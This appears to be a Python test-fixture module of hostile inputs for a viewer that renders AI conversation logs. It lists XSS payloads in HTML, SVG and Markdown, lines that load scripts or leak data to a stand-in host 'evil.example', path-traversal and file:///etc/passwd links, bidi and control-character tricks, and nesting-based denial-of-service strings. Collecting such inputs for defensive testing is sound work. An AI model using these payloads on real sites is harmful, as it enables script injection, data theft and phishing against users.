"""What an attacker, or a model that was told to, would put into a conversation."""

from __future__ import annotations

from typing import Any

PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9Qz0AEYBxVSF"
    "+FABJADveWkH6oAAAAAElFTkSuQmCC"
)
"""A picture that may be shown."""

DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
)

TEXTS = (
    "<script>alert(1)</script>",
    "</p></div></article></main><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    DRAWING,
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img alt='--&gt;&lt;img src onerror=a()&gt;'>",
    "<style>*{background:url(//evil.example/?leak)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<a href='//evil.example' style='position:fixed;inset:0'>all of it</a>",
    "<details open ontoggle=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "[link](javascript:alert(1))",
    "[link](JaVaScRiPt:alert(1))",
    "[link](java\nscript:alert(1))",
    "[link](&#106;avascript:alert(1))",
    "[link](&#x6A;avascript&colon;alert(1))",
    "[link](<java\tscript:alert(1)>)",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[link](vbscript:msgbox(1))",
    "[link](file:///etc/passwd)",
    "[link](//evil.example/)",
    "[link](/prune)",
    "[link](#content)",
    "[link](\\\\evil.example)",
    "[link](https:evil)",
    '[link](https://evil.example/" onmouseover="alert(1))',
    '[link](https://evil.example "title" onmouseover="alert(1)")',
    "[link]: javascript:alert(1)\n\n[link]",
    "<javascript:alert(1)>",
    "<https://evil.example/?\"onclick='alert(1)'>",
    "[![picture](https://evil.example/track.png)](javascript:alert(1))",
    "![picture](https://evil.example/track.png)",
    "![picture](//evil.example/track.png)",
    "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![picture](data:text/html,<script>alert(1)</script>)",
    '![" onerror="alert(1)](https://evil.example/x.png)',
    "![picture](blobs/plots/../../sessions/a.png)",
    "![picture](blobs/plots/%2e%2e/x.png)",
    "![picture](blobs/plots/x.svg)",
    "![picture](sessions/a.json)",
    "![picture](/image?blob=blobs/plots/x.png)",
    '```html"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    '```" onclick=alert(1) class="x\nx\n```',
    "~~~ python\nprint('</pre><script>alert(1)</script>')\n~~~",
    "`</code><script>alert(1)</script>`",
    "|a|b|\n|:-:|-:|\n|<script>alert(1)</script>|[x](javascript:alert(1))|",
    "# </h1><script>alert(1)</script> {#content onclick=alert(1)}",
    "text &lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62; &#x202e;gnp.exe &#0; &#27;[2J",
    "\u202egnp.exe\u202c \u2066right\u2069 \u061c \u200e\u200f \ufeff",
    "NUL \x00 BEL \x07 ESC \x1b[2J \x1b]0;title\x07 CSI \x9b31m DEL \x7f",
    "line\u2028separator\u2029paragraph\x0bvertical\x0cform\x85next",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "x' onmouseover='alert(1)' \" onmouseover=\"alert(1)\"",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "> " * 500 + "deep",
    "".join(f"{'  ' * depth}- deep\n" for depth in range(120)),
    "[" * 2_000 + "a" + "](b)" * 2_000,
    "*" * 3_000 + "a" + "_" * 3_000,
    "<div>" * 2_000,
)
"""Of a message, a tool's result, a tool's name, an argument."""

IDS = (
    "a/b/../../c",
    "..",
    ".",
    "a\\b",
    "%2e%2e%2f",
    "quote\"'`",
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "a b\tc",
    "a&session=other#m0?x=1;y",
    "javascript:alert(1)",
    "//evil.example/",
    "é😀\u202egnp",
    "+plus%20+",
    "x" * 500,
)
"""Names of sessions, journals and users."""

METADATA: dict[str, Any] = {
    "title": "</title><script>alert(1)</script>",
    "</pre><script>alert(1)</script>": ["<img src=x onerror=alert(1)>", {"\u202e": None}],
}


def items(text: str) -> list[dict[str, Any]]:
    """Items of journals, as frameworks write them, that hold a text wherever one may be.

    Args:
        text: What is put there.
    """
    return [
        {"role": "user", "content": text},
        {"role": text, "content": [{"type": "text", "text": text}], "timestamp": text},
        {"role": "assistant", "content": [
            {"type": "thinking", "thinking": text},
            {"type": "tool_use", "id": text, "name": text, "input": {text: text}},
            {"type": "image", "source": {"type": "base64", "media_type": text, "data": text}},
            {"type": "image", "source": {"type": "url", "url": text}},
            {"type": text, text: text},
        ]},
        {"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": text, "content": [
                {"type": "text", "text": text},
                {"type": "image", "source": {
                    "type": "base64", "media_type": "image/svg+xml",
                    "data": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
                }},
            ]},
        ]},
        {"type": "function_call", "name": text, "arguments": text, "call_id": text},
        {"type": "function_call_output", "call_id": text, "output": text},
        {"type": "reasoning", "summary": [{"type": "summary_text", "text": text}]},
        {"role": "tool", "tool_call_id": text, "name": text, "content": text},
        {"kind": "request", "parts": [{"part_kind": "user-prompt", "content": [
            text, {"kind": "image-url", "url": text}, {"kind": "image-url", "url": PIXEL},
        ]}]},
        {"message": {"role": "assistant", "content": [
            {"toolUse": {"toolUseId": text, "name": text, "input": text}},
        ]}},
        {"ns": text, "writes": True, "of": [[text, text, text]]},
        {text: text},
    ]  # fmt: skip
